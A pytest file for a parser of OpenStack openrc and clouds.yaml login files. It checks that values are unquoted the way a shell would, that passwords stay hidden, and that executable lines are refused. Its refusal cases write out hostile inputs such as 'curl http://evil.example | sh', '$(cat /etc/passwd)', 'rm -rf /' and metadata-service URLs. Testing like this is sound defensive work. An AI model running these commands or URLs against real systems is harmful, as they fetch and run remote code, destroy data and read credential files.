"""Access files of an OpenStack: what is read of them, and what of them is never run."""

from __future__ import annotations

import json

import pytest

from apps.vim.errors import CredentialsInvalid
from apps.vim.openstack.login import read_login
from apps.vim.openstack.openrc import read_openrc
from tools.cluster.certificates import Authority

OPENRC = """#!/usr/bin/env bash
# To use an OpenStack cloud you need to authenticate.
export OS_AUTH_URL=https://10.0.0.5:5000/v3
export OS_PROJECT_NAME="edge"
export OS_USER_DOMAIN_NAME="Default"
if [ -z "$OS_USER_DOMAIN_NAME" ]; then unset OS_USER_DOMAIN_NAME; fi
unset OS_TENANT_ID
export OS_USERNAME="site"
export OS_PASSWORD='p$s"w`r#d'   # of this site
export OS_REGION_NAME="RegionOne"
export OS_INTERFACE=public
export OS_IDENTITY_API_VERSION=3
"""
CLOUDS = """
clouds:
  edge:
    auth:
      auth_url: https://10.0.0.5:5000/v3
      username: site
      password: secret
      project_name: edge
    region_name: RegionOne
"""


def wrong(content, **members):
    with pytest.raises(CredentialsInvalid) as invalid:
        read_login(content.encode())
    return {at: str(why) for at, why in invalid.value.fields.items()}


def without(name):
    return "\n".join(line for line in OPENRC.splitlines() if name not in line)


@pytest.mark.parametrize(
    ("line", "value"),
    [
        ("export A=plain", "plain"),
        ("A=plain", "plain"),
        ("export A=", ""),
        ("export A=''", ""),
        ('export A="two words"', "two words"),
        ("export A='$HOME `id` \"x\"'", '$HOME `id` "x"'),
        (r'export A="\$5 \"x\" \\"', '$5 "x" \\'),
        (r"export A=two\ words", "two words"),
        ("export A=a\"b c\"'d'", "ab cd"),
        ("export A=x # a comment", "x"),
        ("export A=x;", "x"),
        ("B=1\nexport A=${B}2$B", "121"),
        ("export A=https://cloud.example:5000/v3?x=1", "https://cloud.example:5000/v3?x=1"),
    ],
)
def test_a_value_is_what_a_shell_would_make_of_it(line, value):
    assert read_openrc(line).values["A"] == value


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("curl http://evil.example | sh", 1),
        ("A=1\nexport OS_PASSWORD=$(cat /etc/passwd)", 2),
        ("export OS_PASSWORD=`id`", 1),
        ('export OS_PASSWORD="$(id)"', 1),
        ("export OS_PASSWORD=a; rm -rf /", 1),
        ("export OS_PASSWORD=a && id", 1),
        ("export OS_PASSWORD=a > /tmp/x", 1),
        ("\n\nsource /etc/profile", 3),
        ("export OS_PASSWORD='open", 1),
        ("export OS_PASSWORD=$NOBODY", 1),
        ("unset A; id", 1),
        ("echo hello; id", 1),
        ('echo "`id`"', 1),
    ],
)
def test_what_would_be_run_is_refused_by_its_line(text, line):
    with pytest.raises(CredentialsInvalid) as invalid:
        read_openrc(text)
    (why,) = invalid.value.fields.values()
    assert f"ine {line}" in str(why)


def test_the_file_that_asks_for_its_password_is_told_so():
    text = OPENRC.replace(
        "export OS_PASSWORD='p$s\"w`r#d'   # of this site",
        'echo "Password of $OS_USERNAME: "\nread -sr OS_PASSWORD_INPUT\n'
        "export OS_PASSWORD=$OS_PASSWORD_INPUT",
    )
    assert "asks for the password" in wrong(text)["file"]


def test_an_openrc_is_a_login_shown_without_its_secret():
    login = read_login(OPENRC.encode())
    assert login.auth["password"] == 'p$s"w`r#d'
    assert (login.region, login.interface) == ("RegionOne", "public")
    shown = login.describe()
    assert (shown["server"], shown["user"], shown["project"]) == (
        "https://10.0.0.5:5000/v3", "site", "edge",
    )
    assert "p$s" not in json.dumps(shown)
    assert "p$s" not in repr(login)


def test_addresses_of_services_may_be_stated():
    login = read_login(f"{OPENRC}\nexport HEAT_URL=http://10.0.0.6:8004/v1\n".encode())
    assert login.overrides == {"orchestration": "http://10.0.0.6:8004/v1"}


def test_a_ca_stands_in_the_file_itself(tmp_path):
    pem = Authority(tmp_path / "pki").pem.decode()
    login = read_login(f"{OPENRC}export OS_CACERT=/etc/ssl/site.pem\n{pem}".encode())
    assert login.ca.strip() == pem.strip()
    assert login.describe()["ca"]["subject"]
    assert "another machine" in wrong(f"{OPENRC}export OS_CACERT=/etc/ssl/site.pem\n")["OS_CACERT"]
    assert wrong(f"{OPENRC}export OS_INSECURE=true\n{pem}").keys() == {"OS_INSECURE"}
    broken = pem.replace("MII", "???", 1)
    assert wrong(OPENRC + broken).keys() == {"OS_CACERT"}


def test_an_application_credential_needs_no_project():
    text = (
        "export OS_AUTH_URL=https://10.0.0.5:5000\nexport OS_AUTH_TYPE=v3applicationcredential\n"
        "export OS_APPLICATION_CREDENTIAL_ID=abc\n"
    )
    assert wrong(text).keys() == {"OS_APPLICATION_CREDENTIAL_SECRET"}
    login = read_login(f"{text}export OS_APPLICATION_CREDENTIAL_SECRET=hush\n".encode())
    assert login.auth_type == "v3applicationcredential"
    assert "hush" not in json.dumps(login.describe())


@pytest.mark.parametrize(
    ("left_out", "named"),
    [
        ("OS_AUTH_URL", "OS_AUTH_URL"),
        ("OS_USERNAME", "OS_USERNAME"),
        ("OS_PASSWORD", "OS_PASSWORD"),
        ("OS_PROJECT_NAME", "OS_PROJECT_NAME"),
    ],
)
def test_what_is_missing_is_named(left_out, named):
    assert wrong(without(left_out)) == {named: f"“{named}” is missing."}


@pytest.mark.parametrize(
    ("url", "said"),
    [
        ("http://169.254.169.254/v3", "no cloud has"),
        ("http://[fd00:ec2::254]/v3", "no cloud has"),
        ("file:///etc/passwd", "must be an address"),
        ("cloud.example", "must be an address"),
        ("http://user:pass@10.0.0.5/v3", "must be an address"),
    ],
)
def test_where_no_cloud_is_nobody_is_called(url, said):
    assert said in wrong(without("OS_AUTH_URL") + f"\nexport OS_AUTH_URL={url}\n")["OS_AUTH_URL"]
    assert said in wrong(f"{OPENRC}export NOVA_URL='{url}'\n")["compute"]


def test_a_clouds_yaml_is_the_same_login():
    login = read_login(CLOUDS.encode())
    assert (login.source, login.auth["username"], login.region) == (
        "clouds.yaml", "site", "RegionOne",
    )
    assert login.auth["user_domain_name"] == "Default"


@pytest.mark.parametrize(
    ("text", "named"),
    [
        (CLOUDS.replace("      password: secret\n", ""), "clouds.edge.auth.password"),
        (CLOUDS.replace("    region_name: RegionOne", "    regions: [A, B]"),
         "clouds.edge.region_name"),
        (f"{CLOUDS}    cacert: /etc/ssl/ca.pem\n", "clouds.edge.cacert"),
        (f"{CLOUDS}    profile: vexxhost\n", "clouds.edge.profile"),
        (f"{CLOUDS}    auth_type: v3oidcpassword\n", "auth_type"),
        (f"{CLOUDS}  other: {{auth: {{}}}}\n", "clouds"),
        ("clouds: {edge: 5}", "clouds.edge.auth"),
        ("clouds: [", "file"),
    ],
)
def test_a_clouds_yaml_that_cannot_be_used_says_where(text, named):
    assert wrong(text).keys() == {named}


def test_of_several_regions_the_only_one_is_taken():
    text = CLOUDS.replace("region_name: RegionOne", "regions: [{name: Here}]")
    assert read_login(text.encode()).region == "Here"
